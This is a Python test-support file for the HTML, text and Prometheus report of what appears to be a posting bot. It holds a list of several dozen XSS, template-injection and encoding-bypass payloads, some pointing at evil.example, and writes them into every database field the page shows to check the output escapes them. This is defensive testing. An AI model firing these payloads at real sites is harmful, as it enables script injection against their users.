"""What a report is made of and into, for tests: a simulated stretch of time, and pages full of attacks."""

from __future__ import annotations

import contextlib
import json
import sqlite3
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
from prometheus_client.parser import text_string_to_metric_families

from src.watch.report import measures as report
from src.watch.report.page import as_html
from src.watch.report.prometheus import as_prometheus
from src.watch.report.text import as_text
from tests.fake_x import Stored
from tests.support.library import library_read_once, small_library
from tests.support.month import simulate
from tests.support.scenarios import memory_folder
from tests.support.world import Texts, World, new_world

HOURS = 60


@dataclass
class Made:
    """A simulated stretch of time and all that was made of it."""

    report: report.PostingReport
    text: str
    data: dict[str, Any]
    numbers: str
    html: str
    tweets: list[Stored]
    runs: list[sqlite3.Row]


def make(world: World, days: int = 30) -> Made:
    found = report.read(world.settings, datetime.now(UTC), days)
    return Made(
        found,
        as_text(found, world.settings),
        json.loads(json.dumps(report.as_data(found, world.settings), default=str)),
        as_prometheus(found, world.settings),
        as_html(found, world.settings),
        list(world.x.accepted),
        world.rows("SELECT * FROM runs ORDER BY id"),
    )


def samples(text: str) -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
    return {
        (s.name, tuple(sorted(s.labels.items()))): s.value
        for family in text_string_to_metric_families(text)
        for s in family.samples
    }


ATTACKS = [
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<iframe src=javascript:window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1>",
    "<marquee onstart=window.hacked=1>",
    "<object data=javascript:window.hacked=1>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<a href=javascript:window.hacked=1>x</a>",
    '"><script>window.hacked=1</script>',
    "'><script>window.hacked=1</script>",
    '" onmouseover="window.hacked=1',
    "' onmouseover='window.hacked=1",
    "` onmouseover=`window.hacked=1",
    "</title><script>window.hacked=1</script>",
    "</style><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</svg><script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script>",
    "<!--<img src='--><img src=x onerror=window.hacked=1>'>",
    "]]><script>window.hacked=1</script>",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "<?xml version='1.0'?><script>window.hacked=1</script>",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.hacked=1&#x3e;",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:msgbox(1)",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<scr\x00ipt>window.hacked=1</scr\x00ipt>",
    "<img/src=x/onerror=window.hacked=1>",
    "<img\tsrc=x\tonerror=window.hacked=1>",
    "<svg/onload=window.hacked=1//",
    "<x onclick=window.hacked=1>click",
    "<a style=position:fixed;inset:0 href=//evil.example>",
    "\u202e<script>gnp.1=dekcah</script>",
    "\u2028<script>window.hacked=1</script>",
    "\ufeff<script>window.hacked=1</script>",
    "＜script＞window.hacked=1＜/script＞",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "<" * 300,
    "A" * 3000,
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
]


def poison(world: World, words: list[str]) -> None:
    """Put texts into every field that the page shows, as X, a model, a person or another program might."""
    with contextlib.closing(sqlite3.connect(world.database)) as db:
        triggers = db.execute("SELECT name, sql FROM sqlite_master WHERE type = 'trigger'").fetchall()
        for name, _ in triggers:
            db.execute(f"DROP TRIGGER {name}")
        newest = db.execute(
            "SELECT id FROM posts WHERE sent_at IS NOT NULL ORDER BY sent_at DESC LIMIT ?", (len(words),)
        ).fetchall()
        runs = db.execute(
            "SELECT id, slot FROM runs WHERE outcome = 'posted' ORDER BY id DESC LIMIT ?", (len(words),)
        ).fetchall()
        assert len(newest) == len(runs) == len(words)
        for number, (word, (post,), (run, slot)) in enumerate(zip(words, newest, runs, strict=True)):
            db.execute("UPDATE posts SET slot = NULL WHERE slot = ?", (slot,))
            db.execute(
                "UPDATE posts SET content = ?, topic = ?, error_message = ?, vanished_at = 1 WHERE id = ?",
                (word, word, word, post),
            )
            db.execute("INSERT INTO results VALUES (?, 4e9, 9, 3, 2, 1, 0, NULL)", (post,))
            db.execute("UPDATE runs SET outcome = ?, message = ? WHERE id = ?", (word, word, run))
            db.execute("DELETE FROM attempts WHERE slot = ?", (slot,))
            if number % 2:  # the cause of every second gap is what X said, of the others how the run ended
                db.execute(
                    "INSERT INTO attempts(post_id, started, slot, outcome, http_status, reason, latency_ms,"
                    " run_id) VALUES (?, (SELECT started FROM runs WHERE id = ?), '', ?, 400, ?, 5, 'x')",
                    (post, run, word, word),
                )
            db.execute(
                "INSERT INTO candidates(run_id, created_at, source_id, opening, score, reasons)"
                " VALUES ('x', (SELECT max(started) FROM runs), 's', ?, 0, ?)",
                (word, word.replace(",", "")),
            )
            db.execute(
                "INSERT INTO spending(at, kind, units, usd)"
                " VALUES ((SELECT max(at) FROM spending), ?, 1, 0.001)",
                (word,),
            )
        hold = {"kind": "blocked", "reason": words[0], "until": None, "fix": words[1], "count": 3, "since": 0}
        limits = [[word, 100, 7, 4e9] for word in words[:3]]
        last = db.execute("SELECT max(id), metrics FROM runs").fetchone()
        db.execute(
            "UPDATE runs SET metrics = ? WHERE id = ?",
            (
                json.dumps({**json.loads(last[1]), **{f"{word}-left-share": 0.5 for word in words[:3]}}),
                last[0],
            ),
        )
        db.execute(
            "INSERT OR REPLACE INTO meta VALUES ('hold', ?), ('limits', ?)",
            (json.dumps(hold), json.dumps(limits)),
        )
        for _, sql in triggers:  # a database without its triggers is refused
            db.execute(sql)
        db.commit()


@pytest.fixture(scope="session")
def stretch() -> Made:
    """Two and a half days with an outage, a power cut, credits used up and lost answers."""
    with (
        memory_folder() as folder,
        new_world(
            folder, DAILY_BUDGET_USD="1", MONTHLY_BUDGET_USD="20", **small_library(folder, 800)
        ) as world,
    ):
        simulate(world, HOURS, composer=Texts())
        return make(world)


@pytest.fixture(scope="session")
def hostile() -> tuple[list[tuple[list[str], Made]], Made]:
    """Pages with twenty attacks each in every field, and the same page with harmless words."""
    size = 17
    with (
        library_read_once(),
        memory_folder() as folder,
        new_world(folder, **small_library(folder, 200)) as world,
    ):
        world.warm()
        for _ in range(size):
            world.tick()
            world.next_slot()
        clean = world.database.read_bytes()
        groups = [ATTACKS[n : n + size] for n in range(0, len(ATTACKS), size)]
        pages = []
        for words in (*groups, [f"harmless word {n}" for n in range(size)]):
            world.database.write_bytes(clean)
            poison(world, (words + ["padding"] * size)[:size])
            pages.append((words, make(world)))
        return pages[:-1], pages[-1][1]
